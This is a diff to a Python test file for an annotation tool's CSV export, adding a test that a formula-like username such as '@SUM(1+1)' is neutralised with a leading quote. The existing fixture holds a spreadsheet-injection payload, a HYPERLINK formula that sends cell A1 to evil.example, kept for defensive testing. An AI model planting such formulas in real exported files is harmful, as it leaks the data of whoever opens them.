@@ -12,7 +12,8 @@ from analysis.tables import to_csv
 from annotate import exporting, services
 from core.spreadsheet import csv_safe
 from tests.conftest import jsonl
-from tests.factories import pair_record
+from tests.factories import UserFactory, pair_record
+from tests.typedata import jsonl_bytes, tom_record
 
 HOSTILE = {
     "prompt": '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -93,3 +94,21 @@ def test_analysis_table_csv_neutralises_formula_cells():
         ["'=1+1", "-1"],
         ["'@x", "0.5"],
     ]
+
+
+def test_tom_answers_csv_neutralises_a_formula_username(lead):
+    project = services.project_create(name="tom", task_type="tom", created_by=lead, overlap=1)
+    services.items_import(
+        project=project, stream=io.BytesIO(jsonl_bytes([tom_record(1)])), fmt="jsonl"
+    )
+    user = UserFactory(username="@SUM(1+1)")  # letters, digits and @.+-_ pass Django's validator
+    services.membership_add(project=project, user=user, role="annotator")
+    assignment = services.assignment_reserve_next(project=project, annotator=user)
+    services.annotation_submit(
+        assignment_id=assignment.pk,
+        annotator=user,
+        value={"answers": {"aware": "B", "action": "A", "judge": "A"}},
+    )
+    rows = exporting.export_rows(project, shape="tom_answers", identities=True)
+    parsed = csv_rows(b"".join(exporting.csv_bytes(rows)))
+    assert parsed and {row["annotator"] for row in parsed} == {"'@SUM(1+1)"}
